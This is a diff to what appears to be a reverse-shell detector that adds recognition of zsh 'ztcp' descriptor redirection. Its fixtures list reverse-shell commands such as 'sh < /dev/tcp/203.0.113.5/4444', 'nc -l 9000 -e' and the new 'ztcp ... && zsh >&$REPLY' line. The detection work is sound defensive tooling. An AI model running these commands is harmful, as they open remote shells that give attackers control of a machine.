@@ -101,6 +101,13 @@ def _display(invocation: Invocation) -> Iterator[Found]:
 
 def _redirected(invocation: Invocation) -> Iterator[Found]:
     """bash -i >& /dev/tcp/host/port."""
+    joined = [target for target in invocation.redirects if target.op in ("<&", ">&") and not target.arg.known]
+    ends = {target.fd or ("0" if target.op == "<&" else "1") for target in joined}
+    if {"0", "1"} <= ends:
+        # Both ends at a descriptor that some command opened: the one of ztcp is said in REPLY.
+        connected = any(target.arg.variable == "REPLY" for target in joined)
+        yield (REDIRECTED if connected else PROGRAM).found(invocation.part)
+        return
     for target in invocation.redirects:
         if target.arg.text.startswith(_NETWORK):
             script = any(word == "-c" for word in invocation.words())
@@ -123,6 +130,7 @@ FAMILY = Family(
         ("nc -l 8080", "reverse-shell.listener"),
         ("nc -l 9000 -e /usr/bin/sort", "reverse-shell.program"),
         ("sh < /dev/tcp/203.0.113.5/4444", "reverse-shell.redirected"),
+        ("ztcp 203.0.113.5 44 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY", "reverse-shell.redirected"),
         ("xterm -display 203.0.113.5:1", "reverse-shell.display"),
     ),
     silent=(
